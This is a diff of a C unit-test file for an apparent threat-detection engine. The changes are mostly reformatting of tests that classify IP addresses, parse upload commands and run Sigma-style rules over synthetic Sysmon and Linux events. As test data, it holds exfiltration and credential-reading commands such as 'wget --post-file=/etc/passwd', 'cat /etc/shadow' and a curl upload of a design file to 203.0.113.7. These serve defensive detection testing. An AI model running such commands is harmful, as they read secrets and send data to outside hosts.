@@ -17,11 +17,25 @@
 static void test_outside(void **state)
 {
     (void)state;
-    static const char *const outside[] = {"203.0.113.7", "8.8.8.8", "172.32.0.1", "198.51.100.23", "2001:db8::1",
-                                          "::ffff:8.8.8.8", NULL};
-    static const char *const inside[] = {"10.1.2.3", "172.16.0.1", "172.31.255.255", "192.168.1.1", "127.0.0.1",
-                                         "169.254.1.1", "100.64.0.1", "0.0.0.0", "224.0.0.251", "::1", "::",
-                                         "fe80::1", "fd00::1", "ff02::1", "::ffff:10.0.0.1", "not an address", "",
+    static const char *const outside[] = {"203.0.113.7", "8.8.8.8",        "172.32.0.1", "198.51.100.23",
+                                          "2001:db8::1", "::ffff:8.8.8.8", NULL};
+    static const char *const inside[] = {"10.1.2.3",
+                                         "172.16.0.1",
+                                         "172.31.255.255",
+                                         "192.168.1.1",
+                                         "127.0.0.1",
+                                         "169.254.1.1",
+                                         "100.64.0.1",
+                                         "0.0.0.0",
+                                         "224.0.0.251",
+                                         "::1",
+                                         "::",
+                                         "fe80::1",
+                                         "fd00::1",
+                                         "ff02::1",
+                                         "::ffff:10.0.0.1",
+                                         "not an address",
+                                         "",
                                          NULL};
     for (const char *const *p = outside; *p; p++)
         assert_true(evidence_outside(*p));
@@ -61,10 +75,10 @@ static void test_upload_commands(void **state)
                   "C:\\ProgramData\\s2.rar");
     expect_upload("C:\\Windows\\System32\\curl.exe", "curl.exe -T s3.rar https://x/in/", "C:\\Users\\m\\",
                   "C:\\Users\\m\\s3.rar");
-    expect_upload("/usr/bin/curl", "curl -o /tmp/out https://x/file", NULL, NULL);        /* a download */
+    expect_upload("/usr/bin/curl", "curl -o /tmp/out https://x/file", NULL, NULL); /* a download */
     expect_upload("/usr/bin/curl", "curl -sko /tmp/out https://x/file", NULL, NULL);
-    expect_upload("/usr/bin/curl", "curl -d name=value https://x/", NULL, NULL);         /* no file */
-    expect_upload("/usr/bin/curl", "curl -T - https://x/", NULL, NULL);                  /* standard input */
+    expect_upload("/usr/bin/curl", "curl -d name=value https://x/", NULL, NULL); /* no file */
+    expect_upload("/usr/bin/curl", "curl -T - https://x/", NULL, NULL);          /* standard input */
     expect_upload("/usr/bin/curl", "curl -H 'X-T: -T /etc/passwd' https://x/", NULL, NULL);
     /* wget */
     expect_upload("/usr/bin/wget", "wget --post-file=/etc/passwd http://x/", NULL, "/etc/passwd");
@@ -171,8 +185,8 @@ static void hunt(const struct stoat_ruleset *rs, const char *events, bool live, 
     char path[256];
     tu_write_temp(events, strlen(events), ".jsonl", path, sizeof(path));
     struct tu_diags ds = {0};
-    struct stoat_hunt_opts ho = {.threads = 1, .diag = tu_diag_cb, .diag_ctx = &ds,
-                                 .behaviour = {.incident_min_score = 1, .corr_live = live}};
+    struct stoat_hunt_opts ho = {
+        .threads = 1, .diag = tu_diag_cb, .diag_ctx = &ds, .behaviour = {.incident_min_score = 1, .corr_live = live}};
     struct stoat_hunt *h = NULL;
     assert_int_equal(stoat_hunt_create(rs, &ho, &h), STOAT_OK);
     struct stoat_sink sink = {.ctx = out, .alert = said_alert, .incident = said_incident};
@@ -185,24 +199,26 @@ static void hunt(const struct stoat_ruleset *rs, const char *events, bool live, 
     tu_diags_free(&ds);
 }
 
-#define RULE(id, title, logsource, det, level, tags)                                                           \
-    "---\ntitle: " title "\nid: " id "\nstatus: test\nlogsource: " logsource "\ndetection:\n" det               \
+#define RULE(id, title, logsource, det, level, tags)                                              \
+    "---\ntitle: " title "\nid: " id "\nstatus: test\nlogsource: " logsource "\ndetection:\n" det \
     "    condition: sel\nlevel: " level "\ntags: " tags "\n"
 
-static const char *win_rules =
-    RULE("0e000000-0000-4000-8000-000000000001", "Discovery With whoami", "{product: windows, category: process_creation}",
-         "    sel:\n        Image|endswith: '\\whoami.exe'\n", "low", "[attack.discovery]")
-    RULE("0e000000-0000-4000-8000-000000000002", "Registry Hive Saved", "{product: windows, category: process_creation}",
-         "    sel:\n        CommandLine|contains: 'reg save'\n", "low", "[attack.credential-access]")
-    RULE("0e000000-0000-4000-8000-000000000003", "PowerShell Reads And Sends A File",
-         "{product: windows, category: process_creation}",
-         "    sel:\n        CommandLine|contains: 'ReadAllBytes'\n", "high",
-         "[attack.exfiltration, attack.command-and-control]");
+static const char *win_rules = RULE("0e000000-0000-4000-8000-000000000001", "Discovery With whoami",
+                                    "{product: windows, category: process_creation}",
+                                    "    sel:\n        Image|endswith: '\\whoami.exe'\n", "low", "[attack.discovery]")
+    RULE("0e000000-0000-4000-8000-000000000002", "Registry Hive Saved",
+         "{product: windows, category: process_creation}", "    sel:\n        CommandLine|contains: 'reg save'\n",
+         "low", "[attack.credential-access]")
+        RULE("0e000000-0000-4000-8000-000000000003", "PowerShell Reads And Sends A File",
+             "{product: windows, category: process_creation}",
+             "    sel:\n        CommandLine|contains: 'ReadAllBytes'\n", "high",
+             "[attack.exfiltration, attack.command-and-control]");
 
-#define WIN_PROC(t, guid, image, cmd)                                                                            \
+#define WIN_PROC(t, guid, image, cmd)                                                                           \
     "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"ws1\",\"UtcTime\":\"" t \
-    "\",\"ProcessGuid\":\"" guid "\",\"ProcessId\":" "100" ",\"ParentProcessGuid\":\"{P}\",\"Image\":\"" image  \
-    "\",\"CommandLine\":\"" cmd "\",\"LogonId\":\"0x1234\"}\n"
+    "\",\"ProcessGuid\":\"" guid "\",\"ProcessId\":"                                                            \
+    "100"                                                                                                       \
+    ",\"ParentProcessGuid\":\"{P}\",\"Image\":\"" image "\",\"CommandLine\":\"" cmd "\",\"LogonId\":\"0x1234\"}\n"
 
 /* A PowerShell download cradle that calls ReadAllBytes, under a rule tagged
  * exfiltration and command and control: the alert keeps its tags, the
@@ -252,31 +268,31 @@ static void test_cradle_claims_no_exfiltration(void **state)
     stoat_ruleset_destroy(rs);
 }
 
-#define LNX(t, eid, guid, pid, pguid, image, rest)                                                               \
-    "{\"Channel\":\"stoat-sensor\",\"EventID\":" #eid ",\"Computer\":\"srv\",\"UtcTime\":\"2026-11-19 " t      \
-    "\",\"ProcessGuid\":\"" guid "\",\"ProcessId\":" #pid ",\"ParentProcessGuid\":\"" pguid                     \
-    "\",\"Image\":\"" image "\",\"LogonId\":\"7\"" rest "}\n"
+#define LNX(t, eid, guid, pid, pguid, image, rest)                                                                  \
+    "{\"Channel\":\"stoat-sensor\",\"EventID\":" #eid ",\"Computer\":\"srv\",\"UtcTime\":\"2026-11-19 " t           \
+    "\",\"ProcessGuid\":\"" guid "\",\"ProcessId\":" #pid ",\"ParentProcessGuid\":\"" pguid "\",\"Image\":\"" image \
+    "\",\"LogonId\":\"7\"" rest "}\n"
 
 static const char *lnx_rules =
     RULE("0e000000-0000-4000-8000-000000000011", "Discovery With id", "{product: linux, category: process_creation}",
          "    sel:\n        Image|endswith: '/id'\n", "low", "[attack.discovery]")
-    RULE("0e000000-0000-4000-8000-000000000012", "Shadow Read", "{product: linux, category: process_creation}",
-         "    sel:\n        CommandLine|contains: '/etc/shadow'\n", "low", "[attack.credential-access]")
-    RULE("0e000000-0000-4000-8000-000000000013", "File Uploaded With curl -T",
-         "{product: linux, category: process_creation}",
-         "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains: ' -T '\n", "medium",
-         "[attack.exfiltration]");
+        RULE("0e000000-0000-4000-8000-000000000012", "Shadow Read", "{product: linux, category: process_creation}",
+             "    sel:\n        CommandLine|contains: '/etc/shadow'\n", "low", "[attack.credential-access]")
+            RULE("0e000000-0000-4000-8000-000000000013", "File Uploaded With curl -T",
+                 "{product: linux, category: process_creation}",
+                 "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains: ' -T '\n", "medium",
+                 "[attack.exfiltration]");
 
 static const char *jewels = "paths: ['/srv/design/*']\ntransfer_window: 1h\n";
 
 /* the start of the story and the jewel read by cat in the same shell */
-#define STORY                                                                                                   \
-    LNX("22:00:00.000", 1, "{G1}", 100, "{G0}", "/usr/bin/bash", ",\"CommandLine\":\"bash\"")                   \
-    LNX("22:00:01.000", 1, "{G2}", 101, "{G1}", "/usr/bin/id", ",\"CommandLine\":\"id\"")                       \
-    LNX("22:00:02.000", 1, "{G3}", 102, "{G1}", "/usr/bin/cat", ",\"CommandLine\":\"cat /etc/shadow\"")         \
-    LNX("22:00:03.000", 1, "{G4}", 103, "{G1}", "/usr/bin/cat", ",\"CommandLine\":\"cat spec\"")                \
+#define STORY                                                                                                    \
+    LNX("22:00:00.000", 1, "{G1}", 100, "{G0}", "/usr/bin/bash", ",\"CommandLine\":\"bash\"")                    \
+    LNX("22:00:01.000", 1, "{G2}", 101, "{G1}", "/usr/bin/id", ",\"CommandLine\":\"id\"")                        \
+    LNX("22:00:02.000", 1, "{G3}", 102, "{G1}", "/usr/bin/cat", ",\"CommandLine\":\"cat /etc/shadow\"")          \
+    LNX("22:00:03.000", 1, "{G4}", 103, "{G1}", "/usr/bin/cat", ",\"CommandLine\":\"cat spec\"")                 \
     LNX("22:00:03.100", 11, "{G4}", 103, "{G1}", "/usr/bin/cat", ",\"TargetFilename\":\"/srv/design/spec.txt\"") \
-    LNX("22:01:00.000", 1, "{G5}", 104, "{G1}", "/usr/bin/curl",                                                \
+    LNX("22:01:00.000", 1, "{G5}", 104, "{G1}", "/usr/bin/curl",                                                 \
         ",\"CommandLine\":\"curl -s -T /srv/design/spec.txt http://203.0.113.7:9/up\"")
 
 static unsigned count(const char *hay, const char *needle)
@@ -303,7 +319,7 @@ static void test_live_upload_needs_bytes(void **state)
          true, &s);
     const char *t = said_text(&s);
     assert_non_null(strstr(t, "alert: Crown Jewel File Opened By An Unusual Process"));
-    assert_non_null(strstr(t, "alert: File Uploaded With curl -T"));   /* the rule's alert stands */
+    assert_non_null(strstr(t, "alert: File Uploaded With curl -T")); /* the rule's alert stands */
     assert_null(strstr(t, "Data Sent Out"));
     assert_int_equal(s.incidents, 1);
     assert_null(strstr(t, "exfiltration ->"));
